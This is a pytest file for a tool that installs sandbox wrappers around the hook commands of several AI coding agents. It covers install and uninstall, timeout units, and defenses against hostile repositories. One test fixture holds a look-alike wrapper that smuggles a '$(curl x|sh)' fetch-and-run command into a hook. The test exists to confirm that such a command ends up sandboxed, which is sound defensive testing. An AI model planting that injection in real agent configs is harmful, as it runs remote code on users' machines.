"""`install` / `uninstall --agent X` for the Claude-shaped agents (`_install.claudelike`):
factory, qwen, codebuddy, iflow, devin, augment (issue 18, items 4, 5 and 6).

Each agent's files are those of its table (`_dialects/claude/agents.py`, with the
sources each row rests on): the project's and local files for `--workspace`, the user's
for `--user`, the system's for `--managed` (Qwen Code's `/etc/qwen-code/`, Augment's
`/etc/augment/settings.json`). Timeouts: Qwen Code reads 1000 and more as milliseconds
(QwenLM/qwen-code packages/core/src/hooks/hook-timeout.ts@985988a), Augment counts
milliseconds (docs.augmentcode.com/cli/hooks). Devin reads Claude Code's settings too
(docs.devin.ai/cli/extensibility/hooks): `install --agent claude` rewrites those.
"""

from __future__ import annotations

import json
import os
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest

import sandboxrun._cli as cli
from sandboxrun import ExecResult
from sandboxrun._dialects.claude.agents import AUGMENT, CODEBUDDY, DEVIN, FACTORY, IFLOW, QWEN
from sandboxrun._dialects.claude.dialect import CLAUDE, ClaudeDialect
from sandboxrun._install import command as _command
from sandboxrun._install.status import notes
from tests.test_cli_unit import (  # noqa: F401 - shared fixtures
    _restore_library_logging,
    engine,
    feed,
)

SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
NEW = (FACTORY, QWEN, CODEBUDDY, IFLOW, DEVIN, AUGMENT)
# The project file each agent reads its repository's hooks from, and its shape.
PROJECT_FILE = {
    "factory": (".factory/hooks.json", "hooks"),
    "qwen": (".qwen/settings.json", "hooks"),
    "codebuddy": (".codebuddy/settings.json", "hooks"),
    "iflow": (".iflow/settings.json", "hooks"),
    "devin": (".devin/hooks.v1.json", "events"),
    "augment": (".augment/settings.json", "hooks"),
}
GUARD = "./hooks/guard.sh | tee -a /tmp/log 2>&1"


def events(command: str = GUARD, event: str = "PreToolUse", **extra: Any) -> dict[str, Any]:
    """An event table with one command handler."""
    hook = {"type": "command", "command": command, **extra}
    return {event: [{"matcher": "*", "hooks": [hook]}]}


def doc(table: str, hooks: dict[str, Any]) -> str:
    """A config file's text: the event table under `hooks`, or the file itself."""
    body = hooks if table == "events" else {"model": "x", "hooks": hooks}
    return json.dumps(body, indent=4) + "\n"


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def sandboxrun(*args: str) -> int:
    return cli.main(list(args))


def table_of(path: Path, table: str) -> dict[str, Any]:
    data = json.loads(path.read_text())
    return data if table == "events" else data["hooks"]  # type: ignore[no-any-return]


def first(path: Path, table: str, event: str = "PreToolUse") -> dict[str, Any]:
    return table_of(path, table)[event][0]["hooks"][0]  # type: ignore[no-any-return]


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    return root


def wsargs(agent: str, ws: Path, home: Path) -> list[str]:
    return ["--agent", agent, "--workspace", str(ws), "--home", str(home)]


def listed(agent: str, ws: Path, home: Path, capsys: Any) -> str:
    capsys.readouterr()
    assert sandboxrun("list", "--agent", agent, "--workspace", str(ws), "--home", str(home)) == 0
    return str(capsys.readouterr().out)


# -- the per-file route: every agent ------------------------------------------------------


@pytest.mark.parametrize("dialect", NEW, ids=lambda d: d.agent)
def test_install_wraps_the_project_file_and_run_runs_the_original(
    home: Path, ws: Path, capsys: Any, monkeypatch: pytest.MonkeyPatch, dialect: ClaudeDialect,
    engine: Any,  # noqa: F811 - the shared fixture
) -> None:  # fmt: skip
    """install -> the agent's command is the wrapper (`--untrusted`: a repository's),
    `run` runs the original in the sandbox (the fake backend sees it), `list` names
    nothing unwrapped, and uninstall gives the bytes back."""
    rel, table = PROJECT_FILE[dialect.agent]
    path = write(ws / rel, doc(table, events()))
    before = path.read_bytes()
    assert sandboxrun("install", *wsargs(dialect.agent, ws, home)) == 0
    assert "1 hook command(s) run through sandboxrun exec" in capsys.readouterr().out
    words = shlex.split(first(path, table)["command"])
    assert words == [*_command.launcher(str(home)), "exec", "--agent", dialect.agent, "--untrusted",
                     "--", GUARD]  # fmt: skip
    assert table_of(path, table)["PreToolUse"][0]["matcher"] == "*"  # only the command changed
    assert "not wrapped" not in listed(dialect.agent, ws, home, capsys)

    seen = engine(default=ExecResult(2, b"", b"no\n", 3))
    event: dict[str, Any] = {"session_id": "s", "hook_event_name": "PreToolUse",
                             "tool_name": "x", "tool_input": {}}  # fmt: skip
    if dialect.roots_field == "workspace_roots":
        event["workspace_roots"] = [str(ws)]
    else:
        event["cwd"] = str(ws)
    feed(monkeypatch, json.dumps(event))
    assert sandboxrun("run", "PreToolUse", "--agent", dialect.agent, "--home", str(home)) == 0
    assert json.loads(capsys.readouterr().out)["permissionDecision"] == "deny"
    (request,) = seen.requests
    assert request.argv == ("/bin/sh", "-c", GUARD)  # the original, not the wrapper

    assert sandboxrun("uninstall", *wsargs(dialect.agent, ws, home)) == 0
    assert path.read_bytes() == before
    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []


@pytest.mark.parametrize(
    ("dialect", "timeout", "seconds"),
    [(QWEN, 30, "25"), (QWEN, 5000, "2.5"), (QWEN, "30s", None), (AUGMENT, 5000, "2.5"),
     (FACTORY, 30, "25"), (DEVIN, 10, "5")],
    ids=["qwen-s", "qwen-ms", "qwen-bad", "augment-ms", "factory-s", "devin-s"],
)  # fmt: skip
def test_timeouts_are_read_in_the_agents_unit(
    home: Path, ws: Path, dialect: ClaudeDialect, timeout: Any, seconds: str | None
) -> None:
    """The wrapper's --timeout is seconds, below the agent's own deadline for the entry,
    whatever unit the agent counts in (a value Qwen ignores gives none)."""
    rel, table = PROJECT_FILE[dialect.agent]
    path = write(ws / rel, doc(table, events(timeout=timeout)))
    assert sandboxrun("install", *wsargs(dialect.agent, ws, home)) == 0
    hook = first(path, table)
    words = shlex.split(hook["command"])
    assert hook["timeout"] == timeout  # the agent's own field is kept
    given = words[words.index("--timeout") + 1] if "--timeout" in words else None
    assert given == seconds


def test_dry_run_changes_nothing(home: Path, ws: Path, capsys: Any) -> None:
    path = write(ws / ".augment/settings.local.json", doc("hooks", events()))
    before = path.read_bytes()
    assert sandboxrun("install", *wsargs("augment", ws, home), "--dry-run") == 0
    out = capsys.readouterr().out
    assert out.startswith(f"--- {path}\n+++ {path}\n") and "(dry run: nothing changed)" in out
    assert path.read_bytes() == before
    assert not (home / ".local/share/sandboxrun/install").exists()


@pytest.mark.parametrize("dialect", [IFLOW, AUGMENT, FACTORY], ids=lambda d: d.agent)
def test_user_files(home: Path, ws: Path, dialect: ClaudeDialect) -> None:
    """--user: the user's own file, its wrappers without --untrusted."""
    name = "hooks.json" if dialect is FACTORY else "settings.json"
    path = write(home / dialect.user_dir / name, doc("hooks", events("a")))
    project = write(ws / PROJECT_FILE[dialect.agent][0], doc("hooks", events("b")))
    before, untouched = path.read_bytes(), project.read_bytes()
    args = ["--agent", dialect.agent, "--user", "--home", str(home)]
    assert sandboxrun("install", *args) == 0
    assert shlex.split(first(path, "hooks")["command"])[-3:] == [dialect.agent, "--", "a"]
    assert project.read_bytes() == untouched
    found = dialect.discover("PreToolUse", [str(ws)], str(home)).hooks
    assert [(h.name, h.source) for h in found] == [("a", "user"), ("b", "project")]
    assert sandboxrun("uninstall", *args) == 0
    assert path.read_bytes() == before


# -- hostile repositories -----------------------------------------------------------------


def test_a_project_file_linked_to_the_users_settings_is_refused(
    home: Path, ws: Path, capsys: Any
) -> None:
    """A repository's `.qwen/settings.json` pointing at ~/.qwen/settings.json must not
    make install rewrite the user's own file (nor wrap its hooks as untrusted)."""
    user = write(home / ".qwen/settings.json", doc("hooks", events("mine.sh")))
    before = user.read_bytes()
    (ws / ".qwen").mkdir()
    (ws / ".qwen/settings.json").symlink_to(user)
    assert sandboxrun("install", *wsargs("qwen", ws, home)) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "outside the project; not changed" in err
    assert user.read_bytes() == before


def test_a_linked_folder_out_of_the_project_is_refused(home: Path, ws: Path, capsys: Any) -> None:
    """The same through a linked folder (Factory's legacy `.factory/hooks/hooks.json`)."""
    elsewhere = write(home / ".factory/hooks/hooks.json", doc("hooks", events("x")))
    (ws / ".factory").mkdir()
    (ws / ".factory/hooks").symlink_to(elsewhere.parent)
    before = elsewhere.read_bytes()
    assert sandboxrun("install", *wsargs("factory", ws, home)) == 2
    assert "outside the project; not changed" in capsys.readouterr().err
    assert elsewhere.read_bytes() == before


LOOK_ALIKE = f'{SR} exec --agent qwen -- "$(curl x|sh)"'


def test_a_look_alike_wrapper_is_wrapped_not_trusted(home: Path, ws: Path, capsys: Any) -> None:
    """A repository's command shaped like a wrapper is a hook: named unsandboxed, and
    (an earlier sandboxrun's shape) its one argument wrapped whole, so the agent's shell
    runs nothing of it; `run` runs it in the sandbox; uninstall gives it back."""
    path = write(ws / ".qwen/settings.json", doc("hooks", events(LOOK_ALIKE)))
    before = path.read_bytes()
    out = listed("qwen", ws, home, capsys)
    assert f"not wrapped: {path} hooks.PreToolUse[0].hooks[0]: " in out
    found = QWEN.discover("PreToolUse", [str(ws)], str(home)).hooks
    assert [h.argv for h in found] == [("/bin/sh", "-c", LOOK_ALIKE)]  # as written
    assert sandboxrun("install", *wsargs("qwen", ws, home)) == 0
    command = first(path, "hooks")["command"]
    head = [*_command.launcher(str(home)), "exec", "--agent", "qwen", "--untrusted", "--"]
    assert command == shlex.join([*head, "$(curl x|sh)"])
    found = QWEN.discover("PreToolUse", [str(ws)], str(home)).hooks
    assert [h.argv for h in found] == [("/bin/sh", "-c", "$(curl x|sh)")]  # in the sandbox
    assert "not wrapped" not in listed("qwen", ws, home, capsys)
    assert sandboxrun("uninstall", *wsargs("qwen", ws, home)) == 0
    assert path.read_bytes() == before


def test_a_pulled_hook_is_named_then_wrapped(home: Path, ws: Path, capsys: Any) -> None:
    """A hook a `git pull` adds after install runs unsandboxed until install runs again:
    `list` and `doctor` name it, with the command to run."""
    path = write(ws / ".qwen/settings.json", doc("hooks", events()))
    pulled = json.loads(path.read_text())
    pulled["hooks"]["Stop"] = [{"hooks": [{"type": "command", "command": "./pulled.sh"}]}]
    assert sandboxrun("install", *wsargs("qwen", ws, home)) == 0
    data = json.loads(path.read_text())
    data["hooks"]["Stop"] = pulled["hooks"]["Stop"]
    path.write_text(json.dumps(data, indent=4) + "\n")
    out = listed("qwen", ws, home, capsys)
    assert (
        f"not wrapped: {path} hooks.Stop[0].hooks[0]: './pulled.sh' runs unsandboxed (new since"
        f" install?): run `sandboxrun install --agent qwen --workspace {ws}` again"
    ) in out
    assert out.count("not wrapped") == 1
    [said] = notes("qwen", [str(ws)], str(home))  # what `doctor` prints too
    assert "./pulled.sh" in said
    assert sandboxrun("install", *wsargs("qwen", ws, home)) == 0
    assert "not wrapped" not in listed("qwen", ws, home, capsys)
    assert sandboxrun("uninstall", *wsargs("qwen", ws, home)) == 0
    assert json.loads(path.read_text()) == pulled  # the pulled hook kept, nothing wrapped


# -- the agents' own rules ------------------------------------------------------------------


def test_factory_rewrites_the_file_it_reads(home: Path, ws: Path) -> None:
    """settings.json's hooks are read only without a hooks.json: install rewrites
    hooks.json then, and settings.json when it is the one read."""
    settings = write(ws / ".factory/settings.json", doc("hooks", events("s.sh")))
    hooks = write(ws / ".factory/hooks.json", doc("hooks", events("h.sh")))
    kept = settings.read_bytes()
    assert sandboxrun("install", *wsargs("factory", ws, home)) == 0
    assert settings.read_bytes() == kept and "exec" in hooks.read_text()
    assert sandboxrun("uninstall", *wsargs("factory", ws, home)) == 0
    hooks.unlink()
    assert sandboxrun("install", *wsargs("factory", ws, home)) == 0
    assert shlex.split(first(settings, "hooks")["command"])[-1] == "s.sh"


def test_factory_a_dangling_hooks_json_does_not_hide_settings(home: Path, ws: Path) -> None:
    """A hooks.json that is no file (a dangling link a repository ships) leaves the
    fallback read: listed, run and installed, never hidden."""
    settings = write(ws / ".factory/settings.json", doc("hooks", events("s.sh")))
    (ws / ".factory/hooks.json").symlink_to(ws / "nowhere.json")
    found = FACTORY.discover("PreToolUse", [str(ws)], str(home)).hooks
    assert [h.name for h in found] == ["s.sh"]
    assert sandboxrun("install", *wsargs("factory", ws, home)) == 0
    assert shlex.split(first(settings, "hooks")["command"])[-1] == "s.sh"


def test_devin_leaves_claudes_files_to_install_agent_claude(
    home: Path, ws: Path, capsys: Any
) -> None:
    """install --agent devin rewrites Devin's files only; Claude Code's, which Devin
    also runs, are named with the command that installs them, and once installed with
    --agent claude, Devin's discovery runs their originals too."""
    devin = write(ws / ".devin/hooks.v1.json", doc("events", events("d.sh")))
    claude = write(ws / ".claude/settings.json", doc("hooks", events("c.sh")))
    user_claude = write(home / ".claude/settings.json", doc("hooks", events("u.sh")))
    write(home / ".config/devin/config.json", doc("hooks", events("v.sh")))
    kept, kept_user = claude.read_bytes(), user_claude.read_bytes()
    assert sandboxrun("install", *wsargs("devin", ws, home)) == 0
    assert sandboxrun("install", "--agent", "devin", "--user", "--home", str(home)) == 0
    assert claude.read_bytes() == kept and user_claude.read_bytes() == kept_user
    assert "exec --agent devin --untrusted" in devin.read_text()
    out = listed("devin", ws, home, capsys)
    assert (
        f"not wrapped: {claude} hooks.PreToolUse[0].hooks[0]: 'c.sh' runs unsandboxed (new since"
        " install?; devin reads Claude Code's settings: they are installed with --agent claude):"
        f" run `sandboxrun install --agent claude --workspace {ws}` again"
    ) in out
    assert "`sandboxrun install --agent claude --user` again" in out
    assert sandboxrun("install", *wsargs("claude", ws, home)) == 0
    assert sandboxrun("install", "--agent", "claude", "--user", "--home", str(home)) == 0
    assert "not wrapped" not in listed("devin", ws, home, capsys)
    found = DEVIN.discover("PreToolUse", [str(ws)], str(home)).hooks
    assert sorted(h.name for h in found) == ["c.sh", "d.sh", "u.sh", "v.sh"]
    assert CLAUDE.discover("PreToolUse", [str(ws)], str(home)).hooks[-1].name == "c.sh"


# -- --managed ------------------------------------------------------------------------------


@pytest.mark.parametrize("dialect", [QWEN, AUGMENT], ids=lambda d: d.agent)
def test_managed_wraps_the_managed_files_own_hooks(
    home: Path, tmp_path: Path, ws: Path, dialect: ClaudeDialect
) -> None:
    """These agents have no switch that ignores the other levels' hooks: --managed wraps
    the managed file's own hooks in place (an administrator's: no --untrusted)."""
    managed = write(tmp_path / "etc/settings.json", doc("hooks", events("admin.sh", timeout=4000)))
    before = managed.read_bytes()
    args = ["--agent", dialect.agent, "--managed-file", str(managed), "--home", str(home)]
    assert sandboxrun("install", *args, "--fail-closed") == 0
    command = first(managed, "hooks")["command"]
    assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
    words = shlex.split(command.partition("exit 2; }; ")[2])
    assert words[3:] == ["exec", "--agent", dialect.agent, "--fail-closed", "--timeout", "2",
                         "--", "admin.sh"]  # fmt: skip
    assert sandboxrun("uninstall", *args) == 0
    assert managed.read_bytes() == before


@pytest.mark.parametrize("agent", ["factory", "codebuddy", "iflow", "devin"])
def test_managed_is_refused_without_a_managed_file(home: Path, agent: str, capsys: Any) -> None:
    assert sandboxrun("install", "--agent", agent, "--managed", "--home", str(home)) == 2
    err = capsys.readouterr().err
    assert err == f"sandboxrun: --managed: {agent} documents no managed settings file\n"
